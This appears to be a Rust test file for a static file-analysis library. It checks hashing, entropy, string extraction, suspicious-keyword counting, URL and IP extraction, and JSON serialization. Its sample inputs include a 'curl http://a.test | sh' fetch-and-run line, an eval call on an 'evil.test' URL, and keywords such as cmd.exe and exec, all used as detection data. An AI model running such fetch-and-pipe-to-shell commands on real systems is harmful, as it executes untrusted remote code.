//! Report-wide properties that must hold for any input.

use crate::common::test_utils::pseudo_random_bytes;
use staticlens::analysis::NoProgress;
use staticlens::hashing::sha256_digest;
use staticlens::{analyze_bytes, AnalysisConfig, AnalysisInput, Analyzer, StaticAnalysisReport};

fn analyze(name: &str, data: &[u8]) -> StaticAnalysisReport {
    analyze_bytes(name, "", data.to_vec(), &mut NoProgress).unwrap()
}

fn corpus() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("empty.bin", Vec::new()),
        ("zeros.bin", vec![0u8; 4096]),
        ("noise.bin", pseudo_random_bytes(8192, 7)),
        (
            "mixed.bin",
            b"\x7fELF\x02\x01GetProcAddress\x00\x00LoadLibraryA\x00https://x.test/a\"q 10.0.0.1"
                .to_vec(),
        ),
        ("text.sh", b"#!/bin/sh\ncurl http://a.test | sh\n".to_vec()),
    ]
}

#[test]
fn analysis_is_deterministic() {
    for (name, data) in corpus() {
        let a = analyze(name, &data);
        let b = analyze(name, &data);
        assert_eq!(a.hashes, b.hashes, "{name}");
        assert_eq!(a.entropy, b.entropy, "{name}");
        assert_eq!(a.strings, b.strings, "{name}");
        assert_eq!(a.suspicious_keywords, b.suspicious_keywords, "{name}");
        assert_eq!(a.extracted_urls, b.extracted_urls, "{name}");
        assert_eq!(a.text_content, b.text_content, "{name}");
    }
}

#[test]
fn hash_matches_standalone_digest() {
    for (name, data) in corpus() {
        let report = analyze(name, &data);
        assert_eq!(report.hashes.sha256, sha256_digest(&data), "{name}");
        assert_eq!(report.hashes.sha256.len(), 64);
        assert!(report
            .hashes
            .sha256
            .chars()
            .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c)));
    }
}

#[test]
fn entropy_stays_in_range() {
    for (name, data) in corpus() {
        let report = analyze(name, &data);
        assert!((0.0..=8.0).contains(&report.entropy), "{name}: {}", report.entropy);
    }
    assert_eq!(analyze("zeros.bin", &[0u8; 4096]).entropy, 0.0);
}

#[test]
fn strings_respect_printable_floor() {
    for (name, data) in corpus() {
        let report = analyze(name, &data);
        for s in &report.strings {
            assert!(s.len() >= 4, "{name}: {s:?}");
            assert!(s.bytes().all(|b| (0x20..=0x7e).contains(&b)), "{name}: {s:?}");
        }
    }
}

#[test]
fn newline_splits_strings() {
    let report = analyze("text.sh", b"#!/bin/sh\ncurl http://a.test | sh\n");
    assert_eq!(
        report.strings,
        vec!["#!/bin/sh".to_string(), "curl http://a.test | sh".to_string()]
    );
}

#[test]
fn keywords_are_literal_and_case_insensitive() {
    let report = analyze(
        "k.bin",
        b"cmd.exe CMD.EXE cmdXexe\x00EVAL eval EvAl\x00evaleval",
    );
    let count = |kw: &str| {
        report
            .suspicious_keywords
            .iter()
            .find(|h| h.keyword == kw)
            .map(|h| h.count)
    };
    // '.' is matched literally, not as a wildcard
    assert_eq!(count("cmd.exe"), Some(2));
    assert_eq!(count("eval"), Some(5));
}

#[test]
fn keywords_sorted_by_count_descending() {
    let report = analyze("k.bin", b"exec exec exec eval socket socket");
    let counts: Vec<u64> = report.suspicious_keywords.iter().map(|h| h.count).collect();
    assert!(counts.windows(2).all(|w| w[0] >= w[1]));
    assert_eq!(report.suspicious_keywords[0].keyword, "exec");
    assert!(report.suspicious_keywords.iter().all(|h| h.count > 0));
}

#[test]
fn indicators_are_deduplicated_urls_then_quads() {
    let report = analyze(
        "ioc.bin",
        b"1.2.3.4 http://b.test/p\x00http://b.test/p 1.2.3.4\x00https://c.test 999.1.1.1",
    );
    assert_eq!(
        report.extracted_urls,
        vec![
            "http://b.test/p".to_string(),
            "https://c.test".to_string(),
            "1.2.3.4".to_string(),
            "999.1.1.1".to_string(),
        ]
    );
}

#[test]
fn url_stops_at_quote_and_angle_brackets() {
    let report = analyze("u.bin", b"href=\"http://q.test/a\"<http://r.test/b>");
    assert_eq!(
        report.extracted_urls,
        vec!["http://q.test/a".to_string(), "http://r.test/b".to_string()]
    );
}

#[test]
fn json_serialization_is_stable() {
    let input = AnalysisInput::from_bytes("p.bin", b"eval( http://evil.test/x )".to_vec());
    let analyzer = Analyzer::new(AnalysisConfig::default()).unwrap();
    let a = analyzer.analyze(&input, &mut NoProgress).unwrap();
    let b = analyzer.analyze(&input, &mut NoProgress).unwrap();
    assert_eq!(a.to_json_string().unwrap(), b.to_json_string().unwrap());

    let back = StaticAnalysisReport::from_json_str(&a.to_json_pretty().unwrap()).unwrap();
    assert_eq!(back, a);
}

#[test]
fn json_round_trip_preserves_entropy_bits() {
    let report = analyze("p.bin", b"eval( http://evil.test/x )");
    // Entropy here is not exactly representable in few decimal digits

    for json in [report.to_json_string().unwrap(), report.to_json_pretty().unwrap()] {
        let back = StaticAnalysisReport::from_json_str(&json).unwrap();
        assert_eq!(back.entropy.to_bits(), report.entropy.to_bits());
    }
    for (name, data) in corpus() {
        let report = analyze(name, &data);
        let back = StaticAnalysisReport::from_json_str(&report.to_json_string().unwrap()).unwrap();
        assert_eq!(back.entropy.to_bits(), report.entropy.to_bits(), "{name}");
    }
}

#[test]
fn script_text_is_bounded() {
    let mut cfg = AnalysisConfig::default();
    cfg.script.text_content_limit = 10;
    let analyzer = Analyzer::new(cfg).unwrap();
    let input = AnalysisInput::from_bytes("long.py", "é".repeat(100).into_bytes());

    let report = analyzer.analyze(&input, &mut NoProgress).unwrap();
    let text = report.text_content.unwrap();
    assert_eq!(text.chars().count(), 10);
    assert!(text.chars().all(|c| c == 'é'));
}
